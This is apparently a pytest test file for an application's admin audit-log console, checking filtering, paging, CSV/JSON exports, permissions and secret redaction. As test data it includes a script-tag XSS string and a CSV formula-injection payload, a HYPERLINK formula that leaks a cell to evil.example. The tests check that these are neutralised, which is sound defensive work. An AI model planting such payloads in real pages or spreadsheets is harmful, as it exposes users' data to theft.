"""The console's audit log: filters, paging, and the CSV and JSON exports (all audited, none
showing a secret, the CSV safe to open in a spreadsheet), for those with audits:audit:view only."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Sequence
from datetime import timedelta

import pytest
from starlette.testclient import TestClient

from keystead.config import Settings
from keystead.store.audit import AuditQuery, SqlAuditLog, StoredEvent
from keystead.web.console import audit as console_audit
from keystead.web.runtime import Runtime, utc_now
from tests.people import Console, create_user, sign_in
from tests.support.apps import flush_failures, run, serve
from tests.support.clients import (
    Registered,
    bootstrap,
    client_body,
    create_client,
    delete_client,
    update_client,
)
from tests.support.clock import ManualClock

EXPORT_HEADER = ["seq", "id", "timestamp", "actorKind", "actorId", "actorName", "action",
                 "entityType", "entityId", "entityName", "result", "remoteIp", "requestId",
                 "actorDivisions", "details"]
FILENAME = re.compile(r'attachment; filename="keystead-audit-\d{8}T\d{6}Z\.(csv|json)"')


def rows(page: str) -> list[tuple[int, str]]:
    """The rows of table#audit: each event's sequence number and its cells' HTML."""
    table = re.search(r'<table id="audit"[^>]*>(.*?)</table>', page, re.DOTALL)
    assert table, "no table#audit on the page"
    return [(int(seq), cells) for seq, cells in
            re.findall(r'<tr data-seq="(\d+)">(.*?)</tr>', table.group(1), re.DOTALL)]


def link(page: str, link_id: str) -> str | None:
    found = re.search(rf'<a id="{link_id}" href="([^"]+)"', page)
    return html.unescape(found.group(1)) if found else None


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """The audit pages need more failed authentications than the throttle lets one client make
    from one address (tests/flows/test_client_auth_throttle.py tries the throttle itself)."""
    return settings.model_copy(update={"throttle_client_failures": 10_000,
                                       "throttle_source_failures": 100_000})


def fail_to_authenticate(http: TestClient, client: Registered, times: int = 1) -> None:
    for attempt in range(times):
        response = http.post("/oauth/token", data={"grant_type": "client_credentials"},
                             auth=(client.id, f"wrong-secret-{attempt}"))
        assert response.status_code == 401
        # Each in an interval of its own, so each is an audit row of its own (within one
        # interval, repeats of a client, source and reason are written as one, with a count).
        flush_failures(http)


def logged(http: TestClient, action: str) -> Sequence[StoredEvent]:
    async def work(runtime: Runtime) -> Sequence[StoredEvent]:
        async with runtime.transaction() as conn:
            found, _ = await SqlAuditLog(conn).query(AuditQuery(action=action, page_size=500))
            return found

    return run(http, work)


def csv_export(console: Console, query: str = "") -> list[dict[str, str]]:
    response = console.http.get(f"/admin/audit/export.csv{query}")
    assert response.status_code == 200, response.text
    assert FILENAME.fullmatch(response.headers["content-disposition"])
    assert response.headers["content-type"].startswith("text/csv")
    reader = csv.reader(io.StringIO(response.text))
    assert next(reader) == EXPORT_HEADER
    return [dict(zip(EXPORT_HEADER, row, strict=True)) for row in reader]


def test_audit_log_filters_by_action_result_and_client(
        console: Console, http: TestClient, headers: dict[str, str], super_admin: str) -> None:
    payroll = create_client(http, headers, client_body(super_admin, name="payroll"))
    create_client(http, headers, client_body(super_admin, name="ledger"))
    fail_to_authenticate(http, payroll)

    created = rows(console.http.get(f"/admin/audit?action=create&client={payroll.id}").text)
    assert len(created) == 1
    assert "payroll" in created[0][1]
    assert "<code>create</code>" in created[0][1]

    failed = rows(console.http.get(f"/admin/audit?client={payroll.id}&result=failure").text)
    assert len(failed) == 1
    assert "<code>authenticate</code>" in failed[0][1]
    assert '<span class="badge failure">failure</span>' in failed[0][1]

    succeeded = rows(console.http.get(f"/admin/audit?client={payroll.id}&result=success").text)
    assert [cells for _, cells in succeeded if "authenticate" in cells] == []


def test_audit_log_filters_by_actor_id_or_part_of_its_name(
        console: Console, http: TestClient, admin: Registered, headers: dict[str, str],
        super_admin: str) -> None:
    create_client(http, headers, client_body(super_admin, name="made by the admin client"))

    by_name = rows(console.http.get("/admin/audit?actor=TEST+ADM").text)
    by_id = rows(console.http.get(f"/admin/audit?actor={admin.id}").text)

    assert by_name
    assert [seq for seq, _ in by_name] == [seq for seq, _ in by_id]
    assert all("test admin" in cells for _, cells in by_name)
    # A LIKE wildcard typed into the filter matches itself, not every name.
    assert rows(console.http.get("/admin/audit?actor=%25").text) == []


def test_audit_log_filters_by_time_in_utc_with_to_including_its_minute(
        console: Console, settings: Settings, http: TestClient, headers: dict[str, str],
        super_admin: str) -> None:
    then = (utc_now() - timedelta(days=10)).replace(second=30, microsecond=0)
    with serve(settings, clock=ManualClock(then)) as past:
        old = bootstrap(past, name="created ten days ago", roles=["OAuth Admin"])
    new = create_client(http, headers, client_body(super_admin, name="created today"))
    minute = then.strftime("%Y-%m-%dT%H:%M")
    next_minute = (then + timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M")

    up_to_then = console.http.get(f"/admin/audit?action=create&to={minute}").text
    after_then = console.http.get(f"/admin/audit?action=create&from={next_minute}").text
    that_minute = console.http.get(f"/admin/audit?from={minute}&to={minute}").text

    assert old.id in up_to_then
    assert new.id not in up_to_then
    assert new.id in after_then
    assert old.id not in after_then
    assert [old.id in cells for _, cells in rows(that_minute)] == [True]


def test_audit_log_pages_fifty_events_at_a_time_and_exports_them_all(
        console: Console, http: TestClient, admin: Registered,
        monkeypatch: pytest.MonkeyPatch) -> None:
    fail_to_authenticate(http, admin, times=60)

    first = console.http.get("/admin/audit?action=authenticate").text
    first_rows = rows(first)
    assert len(first_rows) == 50
    assert [seq for seq, _ in first_rows] == sorted((seq for seq, _ in first_rows), reverse=True)
    assert link(first, "previous-page") is None
    next_url = link(first, "next-page")
    assert next_url is not None
    assert "action=authenticate" in next_url

    second = console.http.get(next_url).text
    second_rows = rows(second)
    assert len(second_rows) == 10
    assert max(seq for seq, _ in second_rows) < min(seq for seq, _ in first_rows)
    assert link(second, "next-page") is None
    previous_url = link(second, "previous-page")
    assert previous_url is not None
    assert rows(console.http.get(previous_url).text) == first_rows
    # An export holds every match, not the page on screen, read in batches (here of 7).
    monkeypatch.setattr(console_audit, "EXPORT_BATCH", 7)
    exported = csv_export(console, "?action=authenticate")
    assert sorted(int(r["seq"]) for r in exported) == sorted(
        seq for seq, _ in first_rows + second_rows)
    as_json = console.http.get("/admin/audit/export.json?action=authenticate").json()
    assert as_json["total"] == len(as_json["entities"]) == 60
    assert [e["seq"] for e in as_json["entities"]] == [int(r["seq"]) for r in exported]


def test_audit_log_shows_the_first_page_for_a_nonsense_page_number(console: Console) -> None:
    first = rows(console.http.get("/admin/audit").text)

    for page in ("0", "-3", "abc", "9" * 5000):
        response = console.http.get(f"/admin/audit?page={page}")
        assert response.status_code == 200, page
        assert rows(response.text) == first


@pytest.mark.parametrize(("query", "field"), [
    pytest.param("from=yesterday", "from", id="from-not-a-date"),
    pytest.param("from=2026-13-01T00:00", "from", id="from-no-such-month"),
    pytest.param("from=2026-03-02T00:00&to=2026-03-01T23:59", "from", id="from-after-to"),
    pytest.param("to=2026-03-01T25:00", "to", id="to-no-such-hour"),
    pytest.param("result=maybe", "result", id="result-unknown"),
    pytest.param("client=abc%00def", "client", id="client-with-nul"),
])
def test_audit_log_shows_a_bad_filter_next_to_its_field(console: Console, query: str,
                                                        field: str) -> None:
    response = console.http.get(f"/admin/audit?{query}")

    assert response.status_code == 400
    page = response.text
    assert f'<p class="field-error" id="{field}-error">' in page
    control = re.search(rf'<(?:input|select) id="{field}"[^>]*>', page, re.DOTALL)
    assert control
    assert 'aria-invalid="true"' in control.group(0)
    assert f"{field}-error" in control.group(0)
    assert '<table id="audit"' not in page


def test_audit_log_escapes_names_and_details(console: Console, http: TestClient,
                                             headers: dict[str, str], super_admin: str) -> None:
    create_client(http, headers, client_body(super_admin, name="<script>alert(1)</script>"))

    page = console.http.get("/admin/audit?action=create").text

    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_audit_export_csv_has_the_changes_with_formulas_neutralised(
        console: Console, http: TestClient, headers: dict[str, str], super_admin: str) -> None:
    name = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    client = create_client(http, headers, client_body(super_admin, name=name))
    create_client(http, headers, client_body(super_admin, name="@SUM(1+1)"))

    exported = csv_export(console)

    created = [r for r in exported if r["action"] == "create" and r["entityId"] == client.id]
    assert len(created) == 1
    assert created[0]["entityName"] == "'" + name
    assert created[0]["result"] == "success"
    assert json.loads(created[0]["details"])["settings"]["name"] == name
    assert "'@SUM(1+1)" in [r["entityName"] for r in exported]
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for r in exported for cell in r.values() if cell.startswith(risky)]
    assert [int(r["seq"]) for r in exported] == sorted(int(r["seq"]) for r in exported)


def test_audit_exports_never_hold_a_client_secret(
        console: Console, http: TestClient, headers: dict[str, str], super_admin: str) -> None:
    client = create_client(http, headers, client_body(super_admin, name="holds a secret"))
    rotated = http.post(f"/api/v2/oauth/clients/{client.id}/secret", json={}, headers=headers)
    assert rotated.status_code == 200
    secrets = [client.secret, rotated.json()["secret"]]

    for path in ("/admin/audit/export.csv", "/admin/audit/export.json"):
        body = console.http.get(path).text
        assert client.id in body
        assert [s for s in secrets if s in body] == []


def test_audit_export_json_holds_the_matching_events_oldest_first(
        console: Console, http: TestClient, admin: Registered) -> None:
    fail_to_authenticate(http, admin, times=3)

    response = console.http.get(f"/admin/audit/export.json?action=authenticate&client={admin.id}")

    assert response.status_code == 200
    assert FILENAME.fullmatch(response.headers["content-disposition"])
    exported = response.json()
    assert exported["total"] == 3
    assert len(exported["entities"]) == 3
    seqs = [e["seq"] for e in exported["entities"]]
    assert seqs == sorted(seqs)
    first = exported["entities"][0]
    assert set(first) == set(EXPORT_HEADER)
    assert (first["action"], first["result"], first["entityId"]) == (
        "authenticate", "failure", admin.id)
    assert first["details"]["reason"] == "wrong or expired secret"


def test_audit_export_is_itself_audited_with_its_filters(console: Console,
                                                         http: TestClient) -> None:
    console.http.get("/admin/audit/export.csv?result=failure&actor=mallory")

    exports = logged(http, "audit.export")
    assert len(exports) == 1
    event = exports[0].event
    assert (event.actor_name, event.result) == ("root@example.com", "success")
    assert event.details["format"] == "csv"
    assert event.details["filters"] == {"result": "failure", "actor": "mallory"}
    # An export is a snapshot taken before its own entry: the next one holds the first only.
    later = [r for r in csv_export(console) if r["action"] == "audit.export"]
    assert [r["id"] for r in later] == [exports[0].id]


def test_audit_export_refuses_bad_filters_without_exporting(console: Console,
                                                            http: TestClient) -> None:
    response = console.http.get("/admin/audit/export.json?to=not-a-time")

    assert response.status_code == 400
    assert "to:" in response.text
    assert "content-disposition" not in response.headers
    assert logged(http, "audit.export") == []


def test_audit_pages_refuse_a_user_without_audit_permission(
        http: TestClient, headers: dict[str, str]) -> None:
    response = http.post("/api/v2/authorization/roles", headers=headers, json={
        "name": "Client viewers", "permissions": ["oauth:client:view"]})
    assert response.status_code == 200, response.text
    sign_in(http, create_user(http, "viewer@example.com", roles=("Client viewers",)))

    for path in ("/admin/audit", "/admin/audit/export.csv", "/admin/audit/export.json"):
        refused = http.get(path)
        assert refused.status_code == 403, path
        assert "missing permission audits:audit:view" in refused.text
        assert "content-disposition" not in refused.headers

    denied = logged(http, "access.denied")
    assert {e.event.entity_name for e in denied} >= {
        "GET /admin/audit", "GET /admin/audit/export.csv", "GET /admin/audit/export.json"}
    assert logged(http, "audit.export") == []


def test_audit_export_sends_strangers_to_sign_in(http: TestClient) -> None:
    response = http.get("/admin/audit/export.csv?result=failure", follow_redirects=False)

    assert response.status_code == 303
    assert response.headers["location"].startswith("/login?next=%2Fadmin%2Faudit%2Fexport.csv")


def test_audit_log_shows_an_edited_clients_changes_as_old_and_new_values(
        console: Console, http: TestClient, headers: dict[str, str], super_admin: str) -> None:
    client = create_client(http, headers, client_body(super_admin, name="payroll"))
    response = update_client(http, headers, client.id, name="payroll v2",
                             accessTokenValiditySeconds=900)
    assert response.status_code == 200, response.text

    page = console.http.get(f"/admin/audit?action=update&client={client.id}").text

    ((_, cells),) = rows(page)
    details = cells[cells.index('class="audit-details"'):]
    assert '<span class="field">Name</span>: <del>payroll</del>' in details
    assert "<ins>payroll v2</ins>" in details
    assert '<span class="field">Token duration (seconds)</span>:' in details
    assert "<ins>900</ins>" in details
    assert "propertyChanges" not in page
    assert client.secret not in page


def test_audit_log_names_actors_and_entities_with_the_id_on_hover_only(
        console: Console, http: TestClient, headers: dict[str, str], super_admin: str,
        admin: Registered) -> None:
    client = create_client(http, headers, client_body(super_admin, name="ledger sync"))

    page = console.http.get(f"/admin/audit?action=create&client={client.id}").text

    ((_, cells),) = rows(page)
    assert (f'<a href="/admin/integrations/oauth/{admin.id}"><span class="subject-name" '
            f'title="{admin.id}">test admin</span>') in cells
    assert (f'<a href="/admin/integrations/oauth/{client.id}"><span class="subject-name" '
            f'title="{client.id}">ledger sync</span>') in cells
    # The ids are there for screen readers, not as text of their own in the cell.
    assert f'<span class="visually-hidden"> (id {client.id})</span>' in cells
    assert f"<code>{client.id}</code>" not in cells
    assert f"<code>{admin.id}</code>" not in cells


def test_audit_log_marks_a_deleted_client_instead_of_linking_to_it(
        console: Console, http: TestClient, headers: dict[str, str], super_admin: str) -> None:
    client = create_client(http, headers, client_body(super_admin, name="short-lived"))
    kept = create_client(http, headers, client_body(super_admin, name="long-lived"))
    delete_client(http, headers, client.id)

    gone = rows(console.http.get(f"/admin/audit?action=create&client={client.id}").text)
    here = rows(console.http.get(f"/admin/audit?action=create&client={kept.id}").text)

    ((_, cells),) = gone
    assert f'title="{client.id}">short-lived</span>' in cells
    assert '<span class="muted">(deleted)</span>' in cells
    assert f'href="/admin/integrations/oauth/{client.id}"' not in cells
    ((_, cells),) = here
    assert "(deleted)" not in cells
    assert f'href="/admin/integrations/oauth/{kept.id}"' in cells


def test_audit_log_filter_labels_say_what_each_field_matches(console: Console) -> None:
    page = console.http.get("/admin/audit").text

    labels = dict(re.findall(r'<label for="(\w+)">([^<]+)</label>', page))
    assert labels["client"] == "Entity id"  # any entity's id, not only a client's
    assert labels["actor"] == "Actor (who did it)"
    assert labels["from"] == "From (UTC)"
    assert labels["to"] == "To (UTC)"
    assert "The exact id of the client, user, role or other entity" in page
    assert "exact id, or part of their name" in page



def test_audit_log_names_roles_and_divisions_instead_of_their_ids(
        console: Console, super_admin: str) -> None:
    # Creating the signed-in user granted them Super Admin in the Home division.
    page = console.http.get("/admin/audit?action=grant.add").text

    cells = rows(page)[-1][1]
    details = cells[cells.index('class="audit-details"'):]
    assert '<span class="field">Role</span>: Super Admin' in details
    assert '<span class="field">Division</span>: Home' in details
    assert super_admin not in details
